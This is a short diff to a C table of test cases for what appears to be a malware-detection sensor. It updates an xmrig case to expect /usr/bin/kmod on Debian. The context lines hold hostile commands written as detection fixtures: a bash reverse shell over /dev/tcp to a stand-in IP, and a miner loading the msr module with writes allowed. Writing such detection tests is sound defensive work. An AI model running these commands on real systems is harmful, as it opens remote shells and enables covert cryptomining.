@@ -1061,7 +1061,8 @@ static const struct dcase dcases[] = {
     {"reverse shell over /dev/tcp", "/usr/bin/bash",
      "bash|-c|bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "/", NULL,
      "/usr/bin/dash", "sh", NULL, 0, "MW-EVASION-006"},
-    {"xmrig loads the msr module", "/usr/sbin/modprobe",
+    /* Debian: /sbin/modprobe is a link to kmod; the sensor reports that. */
+    {"xmrig loads the msr module", "/usr/bin/kmod",
      "/sbin/modprobe|msr|allow_writes=on", "/", NULL, "/usr/bin/dash",
      "sh|-c|/sbin/modprobe msr allow_writes=on > /dev/null 2>&1", NULL, 0,
      "MW-MINER-008"},
